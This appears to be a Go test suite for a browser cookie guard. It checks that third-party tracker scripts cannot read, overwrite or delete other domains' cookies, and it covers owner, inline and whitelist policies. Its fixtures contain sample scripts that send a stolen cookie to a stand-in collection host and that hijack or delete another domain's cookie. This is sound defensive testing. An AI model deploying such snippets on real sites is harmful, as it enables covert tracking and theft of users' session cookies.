package guard

import (
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"

	"cookieguard/internal/browser"
	"cookieguard/internal/cookiejar"
	"cookieguard/internal/entity"
	"cookieguard/internal/jsdsl"
	"cookieguard/internal/netsim"
	"cookieguard/internal/vclock"
)

// guardedWeb builds a test site with setter/reader scripts from different
// tracker domains plus a site-owner script.
func guardedWeb(extra map[string]string) *netsim.Internet {
	in := netsim.New()
	in.RegisterFunc("www.shop.example", func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			http.SetCookie(w, &http.Cookie{Name: "srv_pref", Value: "longvalue12345678"})
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, extra["__html__"])
		case "/own.js":
			fmt.Fprint(w, extra["__own__"])
		default:
			http.NotFound(w, r)
		}
	})
	byHost := map[string]map[string]string{}
	for url, body := range extra {
		if strings.HasPrefix(url, "__") {
			continue
		}
		u := strings.TrimPrefix(url, "https://")
		slash := strings.IndexByte(u, '/')
		host, path := u[:slash], u[slash:]
		if byHost[host] == nil {
			byHost[host] = map[string]string{}
		}
		byHost[host][path] = body
	}
	for host, paths := range byHost {
		ps := paths
		in.RegisterFunc(host, func(w http.ResponseWriter, r *http.Request) {
			if b, ok := ps[r.URL.Path]; ok {
				fmt.Fprint(w, b)
				return
			}
			http.NotFound(w, r)
		})
	}
	in.RegisterFunc("collect.example", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusNoContent)
	})
	return in
}

// visitWithGuard loads the page with a fresh guard and returns both.
func visitWithGuard(t *testing.T, in *netsim.Internet, policy Policy) (*Guard, *browser.Browser, *browser.Page) {
	t.Helper()
	g := New(policy)
	b, err := browser.New(browser.Options{
		Internet:         in,
		CookieMiddleware: []browser.CookieMiddleware{g.Middleware()},
	})
	if err != nil {
		t.Fatal(err)
	}
	p, err := b.Visit("https://www.shop.example/")
	if err != nil {
		t.Fatal(err)
	}
	return g, b, p
}

const crossReadHTML = `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://reader.example/r.js"></script>
<script src="/own.js"></script>
</head><body></body></html>`

func crossReadScripts() map[string]string {
	return map[string]string{
		"__html__":                    crossReadHTML,
		"https://setter.example/s.js": `set_cookie("_sid", "secretvalue1234567");`,
		"https://reader.example/r.js": `
let v = get_cookie("_sid");
if (v != null) { send("https://collect.example/x", {"sid": v}); }
let mine = get_cookie("_rdr");
if (mine == null) { set_cookie("_rdr", "readerown123456"); }
let back = get_cookie("_rdr");
if (back != null) { set_cookie("_rdr_visible", "1"); }
let srv = get_cookie("srv_pref");
if (srv != null) { set_cookie("_saw_srv", "1"); }
send("https://collect.example/doc", {"doc": doc_cookie()});`,
		"__own__": `
let all = get_all_cookies();
if (all["_sid"] != null && all["_rdr"] != null && all["srv_pref"] != null) {
  set_cookie("owner_sees_all", "1");
}`,
	}
}

func TestCrossDomainReadBlocked(t *testing.T) {
	g, b, p := visitWithGuard(t, guardedWeb(crossReadScripts()), DefaultPolicy())
	_ = p
	site := "https://www.shop.example/"

	// reader.example must not have seen setter.example's cookie.
	for _, r := range p.Requests {
		if strings.Contains(r.URL, "collect.example") && strings.Contains(r.URL, "secretvalue") {
			t.Fatal("cross-domain cookie exfiltrated despite guard")
		}
	}
	// document.cookie itself lists only the reader's own cookies.
	var doc []string
	for _, r := range p.Requests {
		if u, err := url.Parse(r.URL); err == nil && u.Host == "collect.example" && u.Path == "/doc" {
			doc = append(doc, u.Query().Get("doc"))
		}
	}
	if want := "_rdr=readerown123456; _rdr_visible=1"; len(doc) != 1 || doc[0] != want {
		t.Fatalf("the reader's doc_cookie() = %q, want [%q]", doc, want)
	}
	// But its own cookie remains visible.
	if b.Jar().Get(site, "_rdr_visible") == nil {
		t.Fatal("script cannot see its own cookie")
	}
	// And the server's first-party cookie is hidden from it.
	if b.Jar().Get(site, "_saw_srv") != nil {
		t.Fatal("third-party script saw HTTP first-party cookie")
	}
	// The filter decisions are logged.
	var reads int
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockRead {
			reads++
		}
	}
	if reads == 0 {
		t.Fatal("no read-filter events logged")
	}
}

func TestSiteOwnerFullAccess(t *testing.T) {
	_, b, _ := visitWithGuard(t, guardedWeb(crossReadScripts()), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "owner_sees_all") == nil {
		t.Fatal("site-owner script must see all first-party cookies (§6.1)")
	}
}

func TestOwnerFullAccessDisabled(t *testing.T) {
	pol := DefaultPolicy()
	pol.OwnerFullAccess = false
	_, b, _ := visitWithGuard(t, guardedWeb(crossReadScripts()), pol)
	if b.Jar().Get("https://www.shop.example/", "owner_sees_all") != nil {
		t.Fatal("owner full access should be disabled")
	}
}

func TestCrossDomainOverwriteBlocked(t *testing.T) {
	scripts := map[string]string{
		"__html__":                    crossReadHTML,
		"https://setter.example/s.js": `set_cookie("_tid", "original12345678");`,
		"https://reader.example/r.js": `set_cookie("_tid", "hijacked99999999");`,
		"__own__":                     `let x = 1;`,
	}
	g, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	c := b.Jar().Get("https://www.shop.example/", "_tid")
	if c == nil || c.Value != "original12345678" {
		t.Fatalf("cookie = %+v; cross-domain overwrite must be blocked", c)
	}
	found := false
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockWrite && ev.Name == "_tid" &&
			ev.Accessor == "reader.example" && ev.Creator == "setter.example" {
			found = true
		}
	}
	if !found {
		t.Fatalf("write block not logged: %+v", g.Blocks())
	}
}

func TestCrossDomainDeleteBlocked(t *testing.T) {
	scripts := map[string]string{
		"__html__":                    crossReadHTML,
		"https://setter.example/s.js": `set_cookie("_tid", "original12345678");`,
		"https://reader.example/r.js": `delete_cookie("_tid");`,
		"__own__":                     `let x = 1;`,
	}
	g, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "_tid") == nil {
		t.Fatal("cross-domain delete must be blocked")
	}
	found := false
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockDelete && ev.Name == "_tid" {
			found = true
		}
	}
	if !found {
		t.Fatalf("delete block not logged: %+v", g.Blocks())
	}
}

func TestSameDomainOverwriteAllowed(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://setter.example/s2.js"></script>
</head><body></body></html>`,
		"https://setter.example/s.js":  `set_cookie("_tid", "original12345678");`,
		"https://setter.example/s2.js": `set_cookie("_tid", "updated000000000");`,
		"__own__":                      ``,
	}
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	c := b.Jar().Get("https://www.shop.example/", "_tid")
	if c == nil || c.Value != "updated000000000" {
		t.Fatalf("same-domain overwrite should pass: %+v", c)
	}
}

func TestInlineStrictDenied(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script>
let v = get_cookie("_sid");
if (v == null) { doc_set_cookie("inline_probe=1"); }
</script>
</head><body></body></html>`,
		"https://setter.example/s.js": `set_cookie("_sid", "secretvalue1234567");`,
		"__own__":                     ``,
	}
	g, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	// Strict mode: the inline read returned nothing AND the write was
	// denied too.
	if b.Jar().Get("https://www.shop.example/", "inline_probe") != nil {
		t.Fatal("inline write should be denied in strict mode")
	}
	var inline int
	for _, ev := range g.Blocks() {
		if ev.Kind == BlockInline {
			inline++
		}
	}
	if inline < 2 {
		t.Fatalf("inline denials = %d, want ≥ 2", inline)
	}
}

func TestInlineRelaxedTreatedFirstParty(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script>
let v = get_cookie("_sid");
if (v != null) { set_cookie("inline_saw_it", "1"); }
</script>
</head><body></body></html>`,
		"https://setter.example/s.js": `set_cookie("_sid", "secretvalue1234567");`,
		"__own__":                     ``,
	}
	pol := DefaultPolicy()
	pol.Inline = InlineRelaxed
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), pol)
	// Relaxed: inline behaves as the site owner → full access.
	if b.Jar().Get("https://www.shop.example/", "inline_saw_it") == nil {
		t.Fatal("relaxed inline should see all cookies")
	}
}

func TestEntityWhitelistGroupsDomains(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://sibling.example/r.js"></script>
</head><body></body></html>`,
		"https://setter.example/s.js": `set_cookie("_tok", "sharedsecret12345");`,
		"https://sibling.example/r.js": `
let v = get_cookie("_tok");
if (v != null) { set_cookie("sibling_ok", "1"); }`,
		"__own__": ``,
	}

	// Without whitelist: blocked.
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "sibling_ok") != nil {
		t.Fatal("cross-domain read should be blocked without whitelist")
	}

	// With a whitelist grouping the two domains: allowed (§7.2).
	ents := entity.NewMap(map[string][]string{
		"PairCo": {"setter.example", "sibling.example"},
	})
	_, b2, _ := visitWithGuard(t, guardedWeb(scripts), WhitelistPolicy(ents))
	if b2.Jar().Get("https://www.shop.example/", "sibling_ok") == nil {
		t.Fatal("same-entity read should be allowed with whitelist")
	}
}

func TestWhitelistExtendsSiteOwnership(t *testing.T) {
	// The facebook.com/fbcdn.net case: a script from the site's CDN
	// sibling gets owner access under the whitelist.
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="/own.js"></script>
<script src="https://shop-cdn.example/w.js"></script>
</head><body></body></html>`,
		"__own__": `set_cookie("widget_state", "boot12345678");`,
		"https://shop-cdn.example/w.js": `
let st = get_cookie("widget_state");
if (st != null) { set_cookie("chat_ready", "1"); }`,
	}

	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	if b.Jar().Get("https://www.shop.example/", "chat_ready") != nil {
		t.Fatal("CDN sibling should be blocked without whitelist")
	}

	ents := entity.NewMap(map[string][]string{
		"ShopCo": {"shop.example", "shop-cdn.example"},
	})
	_, b2, _ := visitWithGuard(t, guardedWeb(scripts), WhitelistPolicy(ents))
	if b2.Jar().Get("https://www.shop.example/", "chat_ready") == nil {
		t.Fatal("whitelisted CDN sibling should boot")
	}
}

func TestCookieStoreFiltering(t *testing.T) {
	scripts := map[string]string{
		"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://reader.example/r.js"></script>
</head><body></body></html>`,
		"https://setter.example/s.js": `cookiestore_set("keep_alive", "val123456789", {"max_age": 600});`,
		"https://reader.example/r.js": `
let c = cookiestore_get("keep_alive");
if (c == null) { set_cookie("cs_hidden", "1"); }
cookiestore_set("keep_alive", "", {"max_age": 0 - 1});`,
		"__own__": ``,
	}
	_, b, _ := visitWithGuard(t, guardedWeb(scripts), DefaultPolicy())
	site := "https://www.shop.example/"
	if b.Jar().Get(site, "cs_hidden") == nil {
		t.Fatal("cookieStore.get should be filtered")
	}
	if b.Jar().Get(site, "keep_alive") == nil {
		t.Fatal("an expired cookieStore.set should be blocked")
	}
}

func TestHTTPCookieOwnedBySite(t *testing.T) {
	// srv_pref is set by the site's server; third parties must not see
	// it, while the site script does (checked in TestSiteOwnerFullAccess
	// via owner_sees_all).
	g, _, _ := visitWithGuard(t, guardedWeb(crossReadScripts()), DefaultPolicy())
	// The dataset learned srv_pref's creator from the Set-Cookie header.
	if got := g.bg.creatorOf("srv_pref"); got != "shop.example" {
		t.Fatalf("srv_pref creator = %q", got)
	}
}

func TestPerOpOverheadCharged(t *testing.T) {
	// Compare two guarded visits differing only in per-op cost, so
	// blocking side effects (skipped beacons change network time too)
	// are held constant.
	scripts := crossReadScripts()
	in := guardedWeb(scripts)

	slow := DefaultPolicy()
	slow.PerOpOverheadMS = 5
	_, _, pSlow := visitWithGuard(t, in, slow)

	free := DefaultPolicy()
	free.PerOpOverheadMS = 0
	_, _, pFree := visitWithGuard(t, in, free)

	if pSlow.Timing.LoadEvent <= pFree.Timing.LoadEvent {
		t.Fatalf("guard overhead missing: slow=%v free=%v",
			pSlow.Timing.LoadEvent, pFree.Timing.LoadEvent)
	}
}

// TestBlockKindMatchesJar makes each write from a cross-domain script,
// after another domain's script created x: document.cookie assignments
// and cookieStore.set calls. The guard blocks it, names the cookie the
// jar's parser reads, and calls it a delete exactly when the jar,
// unguarded, would have deleted x by it. A write the jar rejects is
// dropped without a block, and no write records a creator: the guard
// knows only x and the page's HTTP cookie.
func TestBlockKindMatchesJar(t *testing.T) {
	const page = "https://www.shop.example/"
	type write struct {
		script string // the attacker's call
		src    cookiejar.Source
		line   string // the line the jar parses for it
	}
	var writes []write
	for _, assignment := range []string{
		// A parse that takes the first "max-age" anywhere in the line,
		// or ignores Expires, misjudges these four.
		"x=1; Max-Age=1; max-age=0",
		"x=1; expires=Thu, 01 Jan 1970 00:00:00 GMT",
		"x=max-age=0",
		"x=1; Path=/max-age=0",
		// Writes and the Max-Age deletion idiom.
		"x=1; Path=/",
		"x=1; Max-Age=600",
		"x=; Max-Age=0",
		"x=; Max-Age=-1",
		"x=1",
		"=bad",
	} {
		writes = append(writes, write{fmt.Sprintf(`doc_set_cookie(%q);`, assignment), cookiejar.SourceDocument, assignment})
	}
	// cookieStore: a negative max_age deletes, 0 is a session cookie.
	// SiteScript has no unary minus, so -1 is written 0 - 1.
	for _, maxAge := range []struct {
		expr string
		v    int64
	}{{"0 - 1", -1}, {"0", 0}, {"600", 600}} {
		rec := jsdsl.CookieRecord{Name: "x", Value: "v", MaxAge: maxAge.v}
		writes = append(writes, write{fmt.Sprintf(`cookiestore_set("x", "v", {"max_age": %s});`, maxAge.expr),
			cookiejar.SourceCookieStore, browser.RecordAssignment(rec)})
	}
	// cookieStore names the jar trims to x, and one it rejects.
	for _, name := range []string{" x", "x ", "x;y"} {
		rec := jsdsl.CookieRecord{Name: name, Value: "v"}
		writes = append(writes, write{fmt.Sprintf(`cookiestore_set(%q, "v");`, name),
			cookiejar.SourceCookieStore, browser.RecordAssignment(rec)})
	}
	for _, w := range writes {
		g, _, _ := visitWithGuard(t, guardedWeb(map[string]string{
			"__html__": `<html><head>
<script src="https://setter.example/s.js"></script>
<script src="https://attacker.example/a.js"></script>
</head></html>`,
			"https://setter.example/s.js":   `doc_set_cookie("x=seed");`,
			"https://attacker.example/a.js": w.script,
		}), DefaultPolicy())
		var blocks []BlockEvent
		for _, b := range g.Blocks() {
			if b.Accessor == "attacker.example" {
				blocks = append(blocks, b)
			}
		}

		jar := cookiejar.New(vclock.New())
		jar.SetFromScript(page, "x=seed", cookiejar.SourceDocument)
		want := []BlockEvent{{Kind: BlockWrite, Name: "x", Accessor: "attacker.example", Creator: "setter.example"}}
		switch jar.SetFromScript(page, w.line, w.src) {
		case cookiejar.ChangeDeleted:
			want[0].Kind = BlockDelete
		case cookiejar.ChangeRejected:
			want = nil
		}
		if !reflect.DeepEqual(blocks, want) {
			t.Errorf("%s: attacker blocks %+v, want %+v", w.script, blocks, want)
		}
		g.bg.mu.Lock()
		creators := maps.Clone(g.bg.creators)
		g.bg.mu.Unlock()
		if want := map[string]string{"x": "setter.example", "srv_pref": "shop.example"}; !maps.Equal(creators, want) {
			t.Errorf("%s: creators %v, want %v", w.script, creators, want)
		}
	}
}
